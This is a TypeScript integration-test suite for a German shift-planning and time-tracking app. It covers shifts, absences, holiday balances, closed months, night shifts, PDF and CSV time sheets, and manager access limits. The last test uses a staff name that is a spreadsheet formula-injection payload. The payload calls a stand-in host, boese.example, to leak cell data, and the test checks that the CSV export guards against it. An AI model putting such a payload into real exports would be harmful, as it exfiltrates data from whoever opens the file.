import { DateTime } from "luxon";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DatabaseHandle } from "#app/db/connection.server";
import { createBranchApiKey } from "#app/features/devices/branch-api-keys.server";
import { clock, setClockCredentials } from "#app/features/time-tracking/clock.server";
import { createTestDatabase, databaseTargets } from "#tests/support/db";
import {
  createStaff,
  startAppServer,
  StaffClient,
  type AppServer,
  type TestStaff,
} from "#tests/support/staff";

/**
 * The working plan (issue 21's second half, decision 059) through the whole app: shifts and
 * "Vorwoche übernehmen", the time clock's planned shifts, absences and holiday balances,
 * contracts, time sheets (expected less absences and holidays) and closed months.
 */

type Body = { data?: any; errors?: { message: string }[] };
const ZONE = "Europe/Berlin";
const WEEK = "2026-11-23"; // a Monday
const NEXT = "2026-11-30";

describe.each(databaseTargets())("working plan (%s)", (target) => {
  let handle: DatabaseHandle;
  let server: AppServer;
  let altstadt: number;
  let hafen: number;
  let clockKey: string;
  let anna: TestStaff;
  let carla: TestStaff;
  let managerA: TestStaff;
  let employee: TestStaff;
  let admin: TestStaff;

  const json = async (response: Response) => (await response.json()) as Body;
  const signedIn = (user: TestStaff) => new StaffClient(server).signInAs(server.context, user.id);
  const message = async (response: Response) => (await json(response)).errors?.[0]?.message ?? "";

  beforeAll(async () => {
    handle = await createTestDatabase(target);
    const db = handle.db;
    const branches = await db
      .insertInto("branches")
      .values([
        { identifier: "altstadt", name: "Altstadt", position: 1 },
        { identifier: "hafen", name: "Hafen", position: 2 },
      ])
      .returning("id")
      .execute();
    altstadt = branches[0]!.id;
    hafen = branches[1]!.id;
    anna = await createStaff(db, { roles: ["ROLE_EMPLOYEE"], branchIds: [altstadt], name: "Anna" });
    carla = await createStaff(db, { roles: ["ROLE_EMPLOYEE"], branchIds: [hafen], name: "Carla" });
    employee = await createStaff(db, { roles: ["ROLE_EMPLOYEE"], branchIds: [altstadt] });
    managerA = await createStaff(db, { roles: ["ROLE_MANAGER"], branchIds: [altstadt] });
    admin = await createStaff(db, { roles: ["ROLE_ADMIN"] });
    await setClockCredentials(db, anna.id, { pin: "2468" });
    clockKey = (
      await createBranchApiKey(db, {
        branchId: altstadt,
        label: "Uhr",
        createdBy: null,
        purpose: "time_clock",
      })
    ).key;
    server = await startAppServer(db);
  });

  afterAll(async () => {
    await server?.close();
    await handle?.close();
  });

  it("plans shifts, refuses overlaps and other branches' staff, copies the previous week", async () => {
    const manager = await signedIn(managerA);
    const shift = (body: Record<string, unknown>) =>
      manager.send("/api/working-schedules", {
        json: { branchId: altstadt, userId: anna.id, ...body },
      });
    const made = await shift({ day: "2026-11-24", start: "06:00", end: "12:00" });
    expect(made.status).toBe(201);
    expect((await json(made)).data).toMatchObject({
      day: "2026-11-24",
      start: "06:00",
      end: "12:00",
    });
    expect((await shift({ day: "2026-11-25", start: "14:00", end: "22:00" })).status).toBe(201);

    const overlap = await shift({ day: "2026-11-24", start: "11:00", end: "13:00" });
    expect(overlap.status).toBe(409);
    expect(await message(overlap)).toMatch(/überschneidet/);
    const foreign = await manager.send("/api/working-schedules", {
      json: {
        branchId: altstadt,
        userId: carla.id,
        day: "2026-11-24",
        start: "06:00",
        end: "07:00",
      },
    });
    expect(foreign.status).toBe(404);
    const otherBranch = await manager.send("/api/working-schedules", {
      json: { branchId: hafen, userId: anna.id, day: "2026-11-24", start: "06:00", end: "07:00" },
    });
    expect(otherBranch.status).toBe(403);
    const backwards = await shift({ day: "2026-11-26", start: "12:00", end: "06:00" });
    expect(backwards.status).toBe(400);
    expect(await message(backwards)).toMatch(/^Planung konnte nicht erstellt werden\. /);
    expect((await handle.db.selectFrom("workingSchedules").select("id").execute()).length).toBe(2);

    const copied = await manager.send("/api/working-schedules/copy-week", {
      json: { branchId: altstadt, week: NEXT },
    });
    expect(copied.status).toBe(201);
    expect((await json(copied)).data.copied).toBe(2);
    const again = await manager.send("/api/working-schedules/copy-week", {
      json: { branchId: altstadt, week: NEXT },
    });
    expect(again.status).toBe(409);
    expect((await handle.db.selectFrom("workingSchedules").select("id").execute()).length).toBe(4);
    const listed = await json(
      await manager.send(`/api/working-schedules?from=${NEXT}&to=2026-12-06&user=${anna.id}`),
    );
    expect(listed.data.map((s: any) => `${s.day} ${s.start}`)).toEqual([
      "2026-12-01 06:00",
      "2026-12-02 14:00",
    ]);

    // The time clock answers them (decision 058's hook).
    const planned = await new StaffClient(server).send(
      `/api/time-tracking/${altstadt}/${clockKey}/working-schedules?from=2026-12-01&to=2026-12-01`,
      { headers: { "X-Username": anna.email, "X-Access-Token": "2468" } },
    );
    expect(planned.status).toBe(200);
    const start = (await json(planned)).data[0].start;
    expect(DateTime.fromISO(start).setZone(ZONE).toFormat("yyyy-MM-dd HH:mm")).toBe(
      "2026-12-01 06:00",
    );

    // An employee may not plan.
    const staffClient = await signedIn(employee);
    expect((await staffClient.send("/api/working-schedules")).status).toBe(403);
  });

  it("books holidays (half days) and sickness, keeps balances and reduces the expected time", async () => {
    const manager = await signedIn(managerA);
    const contract = await manager.send(`/api/working-contracts/${anna.id}`, {
      method: "PUT",
      json: {
        weekdayMinutes: [480, 480, 480, 480, 480, 0, 0],
        year: 2026,
        holidayDays: 30,
        carryOverDays: "2,5",
      },
    });
    expect(contract.status).toBe(200);
    const negative = await manager.send(`/api/working-contracts/${anna.id}`, {
      method: "PUT",
      json: { year: 2026, holidayDays: -3 },
    });
    expect(negative.status).toBe(400);
    expect(await message(negative)).toMatch(/Urlaubstage/);

    const before = await json(await manager.send(`/api/time-sheets?user=${anna.id}&month=2026-12`));
    const booked = await manager.send("/api/absences", {
      json: { userId: anna.id, from: "2026-12-01", to: "2026-12-03", kind: "holiday" },
    });
    expect(booked.status).toBe(201);
    const half = await manager.send("/api/absences", {
      json: { userId: anna.id, from: "2026-12-04", kind: "holiday", half: true },
    });
    expect(half.status).toBe(201);
    const halfSpan = await manager.send("/api/absences", {
      json: { userId: anna.id, from: "2026-12-07", to: "2026-12-08", kind: "holiday", half: true },
    });
    expect(halfSpan.status).toBe(400);
    const twice = await manager.send("/api/absences", {
      json: { userId: anna.id, from: "2026-12-03", to: "2026-12-04", kind: "sickness" },
    });
    expect(twice.status).toBe(409);
    expect(await message(twice)).toMatch(/03\.12\.2026/);

    const balances = await json(
      await manager.send(`/api/time-sheets/holiday-balances?year=2026&user=${anna.id}`),
    );
    expect(balances.data[0]).toMatchObject({
      entitlement: 30,
      carryOver: 2.5,
      planned: 3.5,
      remaining: 29,
    });

    const after = await json(await manager.send(`/api/time-sheets?user=${anna.id}&month=2026-12`));
    expect(before.data.expectedMinutes - after.data.expectedMinutes).toBe(3 * 480 + 240);
    const christmas = after.data.days.find((d: any) => d.day === "2026-12-25");
    expect(christmas).toMatchObject({ publicHoliday: true, expectedMinutes: 0 });
  });

  it("a closed month refuses shifts, absences and clock corrections; only admins close", async () => {
    const manager = await signedIn(managerA);
    expect((await manager.send("/api/closed-months", { json: { month: "2026-11" } })).status).toBe(
      403,
    );
    const boss = await signedIn(admin);
    expect((await boss.send("/api/closed-months", { json: { month: "2026-13" } })).status).toBe(
      400,
    );
    expect((await boss.send("/api/closed-months", { json: { month: "2026-11" } })).status).toBe(
      201,
    );
    expect((await boss.send("/api/closed-months", { json: { month: "2026-11" } })).status).toBe(
      409,
    );

    const shift = await manager.send("/api/working-schedules", {
      json: {
        branchId: altstadt,
        userId: anna.id,
        day: "2026-11-27",
        start: "06:00",
        end: "07:00",
      },
    });
    expect(shift.status).toBe(409);
    expect(await message(shift)).toMatch(/abgeschlossen/);
    const absence = await manager.send("/api/absences", {
      json: { userId: anna.id, from: "2026-11-30", to: "2026-12-10", kind: "sickness" },
    });
    expect(absence.status).toBe(409);
    const count = await handle.db.selectFrom("absences").select("id").execute();
    expect(count.length).toBe(4);
    const old = (
      await json(await manager.send(`/api/working-schedules?from=${WEEK}&to=2026-11-29`))
    ).data[0];
    expect(
      (await manager.send(`/api/working-schedules/${old.id}`, { method: "DELETE" })).status,
    ).toBe(409);

    // Decision 058's write paths: a tap and a correction in the closed month are refused.
    const tap = await clock(handle.db, {
      userId: anna.id,
      branchId: altstadt,
      action: "start",
      now: new Date("2026-11-27T07:00:00Z"),
      source: "self",
    });
    expect(tap).toMatchObject({ ok: false, status: 409 });
    const activity = await handle.db
      .insertInto("workingActivities")
      .values({
        userId: anna.id,
        branchId: altstadt,
        startedAt: new Date("2026-11-20T07:00:00Z"),
        endedAt: new Date("2026-11-20T12:00:00Z"),
      })
      .returning("id")
      .executeTakeFirstOrThrow();
    const corrected = await manager.send(`/api/working-activities/${activity.id}`, {
      method: "PUT",
      json: { start: "2026-11-20T06:00:00Z", end: "2026-11-20T12:00:00Z", reason: "Test" },
    });
    expect(corrected.status).toBe(409);
    expect(await message(corrected)).toMatch(/abgeschlossen/);
  });

  it("renders the week grid and the time sheet without JavaScript, with a CSV", async () => {
    const manager = await signedIn(managerA);
    const page = await manager.send(`/backend/working-schedules?woche=${NEXT}&filiale=${altstadt}`);
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain("Vorwoche übernehmen");
    expect(html).toContain("Urlaubskonten");
    const add = await manager.send("/backend/working-schedules", {
      form: {
        intent: "add",
        week: NEXT,
        branchId: String(altstadt),
        userId: String(anna.id),
        day: "2026-12-05",
        start: "07:00",
        end: "09:00",
      },
    });
    expect(add.status).toBe(302);
    const sheet = await manager.send(`/backend/time-sheets?monat=2026-12&person=${anna.id}`);
    expect(sheet.status).toBe(200);
    expect(await sheet.text()).toContain("Stundenzettel");
    const csv = await manager.send(`/backend/time-sheets/export?monat=2026-12&person=${anna.id}`);
    expect(csv.headers.get("Content-Type")).toContain("text/csv");
    expect(await csv.text()).toContain("25.12.2026;0:00");

    // The employee sees their own shifts on "Meine Arbeitszeit".
    const day = DateTime.now().setZone(ZONE).plus({ days: 2 }).toISODate()!;
    await handle.db
      .insertInto("workingSchedules")
      .values({ userId: anna.id, branchId: altstadt, day, startMinute: 330, endMinute: 600 })
      .execute();
    const mine = await (await signedIn(anna)).send("/backend/my-time");
    expect(mine.status).toBe(200);
    const text = await mine.text();
    expect(text).toContain("Meine Schichten");
    expect(text).toContain(`${DateTime.fromISO(day).toFormat("dd.MM.yyyy")}: 05:30–10:00`);
  });

  it("plans a night shift as one shift and splits a night's worked minutes at midnight", async () => {
    const db = handle.db;
    const nina = await createStaff(db, {
      roles: ["ROLE_EMPLOYEE"],
      branchIds: [altstadt],
      name: "Nina",
    });
    await setClockCredentials(db, nina.id, { pin: "1357" });
    const manager = await signedIn(managerA);
    const shift = (day: string, start: string, end: string) =>
      manager.send("/api/working-schedules", {
        json: { branchId: altstadt, userId: nina.id, day, start, end },
      });
    const night = await shift("2027-01-04", "22:00", "06:00");
    expect(night.status).toBe(201);
    expect((await json(night)).data).toMatchObject({
      day: "2027-01-04",
      start: "22:00",
      end: "06:00",
      endsNextDay: true,
    });
    // The next morning: 05:00 overlaps the night shift's end, 06:00 follows it.
    const early = await shift("2027-01-05", "05:00", "13:00");
    expect(early.status).toBe(409);
    expect(await message(early)).toMatch(/überschneidet/);
    expect((await shift("2027-01-05", "06:00", "14:00")).status).toBe(201);
    // 12:00–06:00 would be 18 hours: a typo, refused.
    expect((await shift("2027-01-06", "12:00", "06:00")).status).toBe(400);
    const rows = await db
      .selectFrom("workingSchedules")
      .select(["startMinute", "endMinute"])
      .where("userId", "=", nina.id)
      .orderBy("day")
      .execute();
    expect(rows).toEqual([
      { startMinute: 1320, endMinute: 1800 },
      { startMinute: 360, endMinute: 840 },
    ]);
    // The clock answers it with its real end, the next morning.
    const planned = await new StaffClient(server).send(
      `/api/time-tracking/${altstadt}/${clockKey}/working-schedules?from=2027-01-04&to=2027-01-04`,
      { headers: { "X-Username": nina.email, "X-Access-Token": "1357" } },
    );
    const [first] = (await json(planned)).data;
    expect(DateTime.fromISO(first.end).setZone(ZONE).toFormat("yyyy-MM-dd HH:mm")).toBe(
      "2027-01-05 06:00",
    );
    const grid = await manager.send(
      `/backend/working-schedules?woche=2027-01-04&filiale=${altstadt}`,
    );
    expect(await grid.text()).toContain("22:00–06:00 (+1)");

    // A night activity from 31 January 22:00 to 1 February 06:00, a pause 02:00–02:30.
    const at = (iso: string) => DateTime.fromISO(iso, { zone: ZONE }).toJSDate();
    const { id } = await db
      .insertInto("workingActivities")
      .values({
        userId: nina.id,
        branchId: altstadt,
        startedAt: at("2027-01-31T22:00"),
        endedAt: at("2027-02-01T06:00"),
      })
      .returning("id")
      .executeTakeFirstOrThrow();
    await db
      .insertInto("workingActivityPauses")
      .values({
        workingActivityId: id,
        startedAt: at("2027-02-01T02:00"),
        endedAt: at("2027-02-01T02:30"),
      })
      .execute();
    const january = await json(
      await manager.send(`/api/time-sheets?user=${nina.id}&month=2027-01`),
    );
    expect(january.data.days.find((d: any) => d.day === "2027-01-31").workedMinutes).toBe(120);
    expect(january.data.workedMinutes).toBe(120);
    const february = await json(
      await manager.send(`/api/time-sheets?user=${nina.id}&month=2027-02`),
    );
    expect(february.data.days.find((d: any) => d.day === "2027-02-01").workedMinutes).toBe(330);
    expect(february.data.workedMinutes).toBe(330);
    // The day view lists it once, on its start day, ending the next morning.
    const list = await manager.send(
      `/backend/working-activities?von=2027-01-31&bis=2027-01-31&filiale=${altstadt}`,
    );
    const html = await list.text();
    expect(html).toContain("06:00 (+1)");
    expect(html).toContain("7:30");
  });

  it("answers a month's time sheet as a PDF with the figures, absences and signature lines", async () => {
    const db = handle.db;
    const paula = await createStaff(db, {
      roles: ["ROLE_EMPLOYEE"],
      branchIds: [altstadt],
      name: "Paula Groß",
    });
    const manager = await signedIn(managerA);
    // 8 h Monday to Thursday, 6 h on Friday.
    expect(
      (
        await manager.send(`/api/working-contracts/${paula.id}`, {
          method: "PUT",
          json: { weekdayMinutes: [480, 480, 480, 480, 360, 0, 0] },
        })
      ).status,
    ).toBe(200);
    // March 2027: a holiday on Tuesday 2nd, half a day off on Wednesday 3rd.
    for (const body of [
      { from: "2027-03-02", to: "2027-03-02", kind: "holiday" },
      { from: "2027-03-03", to: "2027-03-03", kind: "holiday", half: true },
      { from: "2027-03-04", to: "2027-03-05", kind: "sickness" },
    ]) {
      expect(
        (await manager.send("/api/absences", { json: { userId: paula.id, ...body } })).status,
      ).toBe(201);
    }
    const at = (iso: string) => DateTime.fromISO(iso, { zone: ZONE }).toJSDate();
    await db
      .insertInto("workingActivities")
      .values([
        // Monday 1st: 9 h worked (1 h more than expected).
        {
          userId: paula.id,
          branchId: altstadt,
          startedAt: at("2027-03-01T06:00"),
          endedAt: at("2027-03-01T15:00"),
        },
        // Wednesday 3rd: 3:30 h on the half day.
        {
          userId: paula.id,
          branchId: altstadt,
          startedAt: at("2027-03-03T07:00"),
          endedAt: at("2027-03-03T10:30"),
        },
      ])
      .execute();
    const sheet = await json(await manager.send(`/api/time-sheets?user=${paula.id}&month=2027-03`));
    const response = await manager.send(
      `/backend/time-sheets/pdf?monat=2027-03&person=${paula.id}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("application/pdf");
    expect(response.headers.get("Content-Disposition")).toContain(
      "stundenzettel-2027-03-Paula_Gro_.pdf",
    );
    const pdfjs = await import("pdfjs-dist/legacy/build/pdf.mjs");
    const pdf = await pdfjs.getDocument({
      data: new Uint8Array(await response.arrayBuffer()),
      useSystemFonts: false,
    }).promise;
    expect(pdf.numPages).toBe(1);
    const content = await (await pdf.getPage(1)).getTextContent();
    const text = content.items
      .map((item) => ("str" in item ? item.str : ""))
      .join(" ")
      .replace(/\s+/g, " ");
    await pdf.destroy();
    expect(text).toContain("Stundenzettel März 2027");
    expect(text).toContain("Mitarbeiter/in: Paula Groß");
    expect(text).toContain("Filiale: Altstadt");
    // Monday: 8:00 expected, 9:00 worked, +1:00; the half holiday: 4:00, 3:30, −0:30.
    expect(text).toContain("Mo 01.03.2027 8:00 9:00 +1:00");
    expect(text).toContain("Di 02.03.2027 0:00 0:00 Urlaub");
    expect(text).toContain("Mi 03.03.2027 4:00 3:30 −0:30 Urlaub (½ Tag)");
    expect(text).toContain("Do 04.03.2027 0:00 0:00 Krankheit");
    // The totals are the API's.
    const h = (m: number) =>
      `${Math.floor(Math.abs(m) / 60)}:${String(Math.abs(m) % 60).padStart(2, "0")}`;
    expect(sheet.data.workedMinutes).toBe(750);
    expect(text).toContain(
      `Summe ${h(sheet.data.expectedMinutes)} 12:30 ${sheet.data.balanceMinutes < 0 ? "−" : "+"}${h(sheet.data.balanceMinutes)}`,
    );
    expect(text).toContain("Urlaub: 1,5 Tage · Krankheit: 2 Tage");
    expect(text).toContain("Datum, Unterschrift Mitarbeiter/in");
    expect(text).toContain("Datum, Unterschrift Arbeitgeber/in");
    // Bad input: a 400 in German, no PDF.
    const bad = await manager.send(`/backend/time-sheets/pdf?monat=2027-13&person=${paula.id}`);
    expect(bad.status).toBe(400);
    expect(bad.headers.get("Content-Type")).not.toBe("application/pdf");
  });

  // Issue 35, finding 8c: the sheet showed a shared employee's hours at the other branch.
  it("shows a manager the time sheets of their own people only, and only their branches' hours", async () => {
    const db = handle.db;
    const shared = await createStaff(db, {
      roles: ["ROLE_EMPLOYEE"],
      branchIds: [altstadt, hafen],
      name: "Sophie Geteilt",
    });
    // Moved from Hafen to Altstadt: her Hafen day is not Altstadt's business.
    const moved = await createStaff(db, {
      roles: ["ROLE_EMPLOYEE"],
      branchIds: [altstadt],
      name: "Mona Gewechselt",
    });
    await db
      .insertInto("workingActivities")
      .values([
        {
          userId: shared.id,
          branchId: hafen,
          startedAt: new Date("2026-10-06T06:00:00Z"),
          endedAt: new Date("2026-10-06T14:00:00Z"),
        },
        {
          userId: moved.id,
          branchId: hafen,
          startedAt: new Date("2026-10-07T06:00:00Z"),
          endedAt: new Date("2026-10-07T14:00:00Z"),
        },
        {
          userId: moved.id,
          branchId: altstadt,
          startedAt: new Date("2026-10-08T06:00:00Z"),
          endedAt: new Date("2026-10-08T08:00:00Z"),
        },
      ])
      .execute();
    const manager = await signedIn(managerA);
    const hafenActivity = await manager.send(
      `/api/working-activities?from=2026-10-06&to=2026-10-06&user=${shared.id}`,
    );
    expect((await json(hafenActivity)).data).toEqual([]);
    for (const path of [
      `/api/time-sheets?user=${shared.id}&month=2026-10`,
      `/backend/time-sheets?monat=2026-10&person=${shared.id}`,
      `/backend/time-sheets/export?monat=2026-10&person=${shared.id}`,
      `/backend/time-sheets/pdf?monat=2026-10&person=${shared.id}`,
    ]) {
      const answer = await manager.send(path);
      expect(answer.status, path).toBe(403);
      expect(await answer.text(), path).not.toContain("8:00");
    }
    const own = await json(await manager.send(`/api/time-sheets?user=${moved.id}&month=2026-10`));
    expect(own.data.workedMinutes).toBe(120);
    expect(own.data.days.find((d: any) => d.day === "2026-10-07").workedMinutes).toBe(0);
    // The head office sees the whole month of both.
    const office = await signedIn(admin);
    const all = await json(await office.send(`/api/time-sheets?user=${moved.id}&month=2026-10`));
    expect(all.data.workedMinutes).toBe(600);
    const sharedSheet = await office.send(`/api/time-sheets?user=${shared.id}&month=2026-10`);
    expect((await json(sharedSheet)).data.workedMinutes).toBe(480);
  });

  // Issue 35, finding 12a: a cell starting with = + - @ runs as a formula in a spreadsheet.
  it("writes the time sheet's CSV through the formula guard", async () => {
    const db = handle.db;
    const name = '=HYPERLINK("https://boese.example/?d="&A1;"Klick")';
    const eve = await createStaff(db, { roles: ["ROLE_EMPLOYEE"], branchIds: [altstadt], name });
    const csv = await (
      await signedIn(managerA)
    ).send(`/backend/time-sheets/export?monat=2026-10&person=${eve.id}`);
    expect(csv.status).toBe(200);
    const bytes = new Uint8Array(await csv.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8").decode(bytes);
    const lines = text.split("\r\n");
    expect(lines[0]).toBe("Person;Tag;Soll;Ist;Hinweis");
    // The name is one quoted cell behind a quote mark: text, never a formula.
    expect(lines[1]).toBe(
      `"'=HYPERLINK(""https://boese.example/?d=""&A1;""Klick"")";01.10.2026;0:00;0:00;`,
    );
    expect(text).not.toMatch(/(^|;|\n)=HYPERLINK/);
  });
});
